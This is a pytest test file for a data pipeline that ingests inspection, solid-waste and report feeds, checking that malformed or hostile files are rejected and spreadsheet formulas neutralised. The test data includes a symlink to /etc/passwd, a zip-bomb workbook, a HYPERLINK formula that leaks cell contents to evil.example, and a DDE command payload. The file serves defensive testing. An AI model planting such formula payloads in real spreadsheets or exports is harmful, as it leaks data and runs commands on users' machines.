"""Hostile and odd files in the tabular feeds (issue 13; the corpus in tests/corpus/tabular/, README there): each
bad file is rejected naming file, row and column, its partition keeps its previous data, the other partitions of
the same run load and flow on to the marts and the BI snapshot, and the run's last step fails naming every
rejected file. Formulas in text reach BI neutralised; a much shorter re-delivery loads and is reported."""

import os
import shutil
from pathlib import Path

import dagster as dg
import pytest

from tests.conftest import ROOT, materialize_range, query
from tests.test_solid_waste import feed_profile

CORPUS = ROOT / "tests" / "corpus" / "tabular"
FEEDS = ROOT / "feeds"


def selection(feed: str) -> dg.AssetSelection:
    """What the feed's job materialises: its assets, the shared tables and the BI snapshot (the run's last step)."""
    return dg.AssetSelection.groups(feed, "reference", "attainment", "serving")


RANGES = {"inspections": ("2019-01-01", "2019-12-01"), "solid_waste": ("2018", "2020"), "reports": ("2018", "2020")}


@pytest.fixture(scope="module")
def loaded(tmp_path_factory) -> Path:
    """A warehouse with the bundled inspections of 2019, solid waste and reports of 2018–2020 (the good base)."""
    tmp = tmp_path_factory.mktemp("tabular")
    profile = feed_profile(tmp)
    warehouse = tmp / "w.duckdb"
    for feed, (first, last) in RANGES.items():
        assert materialize_range(profile, warehouse, first, last, selection=selection(feed)).success
    return warehouse


def run_with(tmp_path: Path, loaded: Path, feed: str, replaced: dict[str, str | None], extra=None):
    """Copy the base warehouse and the feed's bundled folder, put corpus files in place of some of its files
    (``None``: remove the file, so ``extra`` can put something else there), and run the feed's job over its range."""
    folder = tmp_path / feed
    shutil.copytree(FEEDS / feed, folder)
    for target, corpus in replaced.items():
        (folder / target).unlink()
        if corpus is not None:
            shutil.copy(CORPUS / corpus, folder / target)
    if extra:
        extra(folder)
    warehouse = tmp_path / "w.duckdb"
    shutil.copy(loaded, warehouse)
    profile = feed_profile(tmp_path, **{feed: str(folder)})
    before = snapshot(warehouse, feed)
    first, last = RANGES[feed]
    result = materialize_range(profile, warehouse, first, last, raise_on_error=False, selection=selection(feed))
    return result, warehouse, before


def snapshot(warehouse: Path, feed: str) -> dict[str, dict]:
    """raw and staging rows of a feed, by partition (file name)."""
    out = {}
    for layer in ("raw", "staging"):
        rows = query(warehouse, f"SELECT * EXCLUDE (loaded_at) FROM {layer}.{feed} ORDER BY ALL"
                     if layer == "raw" else f"SELECT * FROM {layer}.{feed} ORDER BY ALL")
        columns = [c for (c,) in query(warehouse, "SELECT column_name FROM duckdb_columns() WHERE schema_name = ? "
                                                  "AND table_name = ? ORDER BY column_index", [layer, feed])]
        if layer == "raw":
            columns.remove("loaded_at")
        at = columns.index("source_file")
        by_file: dict[str, list] = {}
        for row in rows:
            by_file.setdefault(row[at], []).append(row)
        out[layer] = by_file
    return out


def failure_text(result) -> str:
    return "\n".join(str(e.event_specific_data.error) for e in result.all_events if e.is_step_failure)


def rejections(warehouse: Path, feed: str) -> dict[str, tuple]:
    """partition → (file_rejected, reason) of the feed's entries in mart.feed_rejections."""
    return {str(p): (whole, reason) for p, whole, reason in query(
        warehouse, "SELECT partition_date, file_rejected, reason FROM mart.feed_rejections WHERE feed = ?", [feed])}


def assert_outcome(result, warehouse: Path, before: dict, feed: str, rejected: dict[str, tuple[str, str]],
                   loaded_files: list[str]) -> None:
    """``rejected``: partition → (file name, text of the reason); ``loaded_files``: files reloaded unchanged."""
    after = snapshot(warehouse, feed)
    assert not result.success  # the run ends red ...
    message = failure_text(result)
    assert f"{len(rejected)} feed file(s) were rejected in this run" in message  # ... naming every rejected file
    found = rejections(warehouse, feed)
    for partition, (name, expected) in rejected.items():
        whole, reason = found[partition]
        assert whole and name in reason and expected in reason, (partition, reason)
        assert len(reason) <= 1100  # quoted text and messages are capped
        assert reason in message
        for layer in ("raw", "staging"):  # the partition keeps its previous data
            assert after[layer].get(name) == before[layer].get(name), (layer, name)
    for name in loaded_files:  # the good partitions of the same run loaded (identical files: identical rows)
        assert after["raw"][name] == before["raw"][name] and after["staging"][name] == before["staging"][name]
    checks = {e.check_name: e for e in result.get_asset_check_evaluations()}
    assert not checks[f"{feed}_files_loaded"].passed
    # Each partition's materialisation says what became of its file (not only the run's figures).
    observed = [e.event_specific_data.materialization.metadata for e in result.get_asset_materialization_events()
                if e.asset_key == dg.AssetKey(["raw", feed])]
    assert sorted(m["reason"].value for m in observed if m["status"].value == "rejected") == sorted(
        found[p][1] for p in rejected)
    assert sum(m["status"].value == "loaded" for m in observed) >= len(loaded_files)
    steps = {e.step_key for e in result.all_events if e.event_type_value == "STEP_SUCCESS"}
    assert "mart__target_attainment" in steps  # the good partitions flowed on to the marts


def test_inspections(tmp_path, loaded):
    def hostile_entries(folder: Path) -> None:
        os.symlink("/etc/passwd", folder / "inspections_201908.csv")  # a link out of the feed folder
        os.mkfifo(folder / "inspections_201909.csv")  # not a regular file: must not block the run either

    result, warehouse, before = run_with(tmp_path, loaded, "inspections", {
        "inspections_201902.csv": "inspections_201902_cr_line_ends.csv",
        "inspections_201903.csv": "inspections_201903_fullwidth_date.csv",
        "inspections_201904.csv": "inspections_201904_mixed_encoding.csv",
        "inspections_201905.csv": "inspections_201905_long_cell.csv",
        "inspections_201906.csv": "inspections_201906_formulas.csv",
        "inspections_201907.csv": "inspections_201907_shorter.csv",
        "inspections_201908.csv": None,
        "inspections_201909.csv": None,
    }, hostile_entries)
    assert_outcome(result, warehouse, before, "inspections", {
        "2019-02-01": ("inspections_201902.csv", "row 1: a line ends with a lone CR"),
        "2019-03-01": ("inspections_201903.csv", "row 5, column 抽样日期: not a date YYYY-MM-DD "
                                                 "(got '２０１９-０３-２９'; ASCII digits 0–9 only"),
        "2019-04-01": ("inspections_201904.csv", "row 7: not UTF-8 text (byte 982) although row 1 is UTF-8 text: "
                                                 "mixed encodings"),
        "2019-05-01": ("inspections_201905.csv", "row 3, column 检验结果: not a result word"),
        "2019-08-01": ("inspections_201908.csv", "row 1: a symbolic link, not a regular file"),
        "2019-09-01": ("inspections_201909.csv", "row 1: not a regular file"),
    }, [f"inspections_2019{m:02}.csv" for m in (1, 10, 11, 12)])
    # nothing of the linked file was read: not in the warehouse, not in any message
    assert "root:" not in failure_text(result)
    assert query(warehouse, "SELECT count(*) FROM mart.feed_rejections WHERE reason LIKE '%root:%'") == [(0,)]
    assert "(40,000 characters)" in rejections(warehouse, "inspections")["2019-05-01"][1]

    # formulas: raw keeps the text as received; staging, the marts and the BI snapshot have it neutralised
    raw = query(warehouse, "SELECT enterprise, subject FROM raw.inspections WHERE source_file = "
                           "'inspections_201906.csv' AND source_row = 2")
    assert raw == [('=HYPERLINK("http://evil.example/?leak="&A1;"衡阳示例公司")', "@SUM(A1:A9)")]
    staged = query(warehouse, "SELECT enterprise, subject, failed_items, inspecting_body FROM staging.inspections "
                              "WHERE source_file = 'inspections_201906.csv' AND source_row IN (2, 10) ORDER BY ALL")
    assert staged == [("'=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"衡阳示例公司\")", "'@SUM(A1:A9)", None,
                       "衡阳市产商品质量监督检验所"),
                      ("石鼓区示例农业09号公司", None, "'-2+3、整车质量", "'+cmd|' /C calc'!A0")]
    served = query(warehouse.with_name("serving.duckdb"),
                   "SELECT DISTINCT failed_item FROM mart.inspection_failed_items WHERE period = '2019-06'")
    assert ("'-2+3",) in served and not [f for (f,) in served if f[0] in "=+-@"]

    # the shorter re-delivery: loaded (a re-run replaces its partition) and reported, not an error
    assert len(snapshot(warehouse, "inspections")["raw"]["inspections_201907.csv"]) == 38
    checks = {e.check_name: e for e in result.get_asset_check_evaluations()}
    assert not checks["inspections_row_counts"].passed
    assert checks["inspections_row_counts"].metadata["drops"].value == [
        "inspections_201907.csv: 38 rows replace the 76 the partition had (-50%); a shorter or emptier re-delivery? "
        "Loaded as delivered"]
    assert rejections(warehouse, "inspections")["2019-07-01"][0] is False


def test_solid_waste(tmp_path, loaded):
    result, warehouse, before = run_with(tmp_path, loaded, "solid_waste", {
        "solid_waste_2018.csv": "solid_waste_2018_formula_name.csv",
        "solid_waste_2019.csv": "solid_waste_2019_fullwidth_digits.csv",
        "solid_waste_2020.xlsx": "solid_waste_2020_corrupted.xlsx",
    })
    assert_outcome(result, warehouse, before, "solid_waste", {
        "2019-01-01": ("solid_waste_2019.csv", "row 4, column 产生量(吨): not a number (got '１１７３５０.６'; ASCII "
                                               "digits 0–9 only"),
        "2020-01-01": ("solid_waste_2020.xlsx", "not a readable XLSX workbook (zlib.error: 'Error -3 while "
                                                "decompressing data"),
    }, [])
    assert query(warehouse, "SELECT DISTINCT enterprise_name FROM raw.solid_waste WHERE enterprise_code = "
                            "'91430405EX000002' AND year = 2018") == [
        ('=HYPERLINK("http://evil.example","衡阳珠晖钢管有限公司")',)]
    served = query(warehouse.with_name("serving.duckdb"), "SELECT DISTINCT year, enterprise_name FROM "
                                                          "mart.solid_waste_balance WHERE enterprise_code = "
                                                          "'91430405EX000002' ORDER BY ALL")
    assert served == [(2018, "'=HYPERLINK(\"http://evil.example\",\"衡阳珠晖钢管有限公司\")"),
                      (2019, "衡阳珠晖钢管有限公司"), (2020, "衡阳珠晖钢管有限公司")]


def test_reports(tmp_path, loaded):
    result, warehouse, before = run_with(tmp_path, loaded, "reports", {
        "reports_2019.csv": "reports_2019_formulas.csv",
        "reports_2020.xlsx": "reports_2020_zip_bomb.xlsx",
    })
    assert_outcome(result, warehouse, before, "reports", {
        "2020-01-01": ("reports_2020.xlsx", "row 1: the workbook unpacks to 83,910,055 bytes, more than the "
                                            "67,108,864 a feed file may hold"),
    }, ["reports_2018.csv"])
    served = query(warehouse.with_name("serving.duckdb"), "SELECT reporting_department, note FROM "
                                                          "mart.reported_indicator WHERE period = '2019' AND "
                                                          "indicator_id = 'food_incident_timely_handling_rate'")
    assert served == [("'@市食品药品监管局", "'=1+1")]
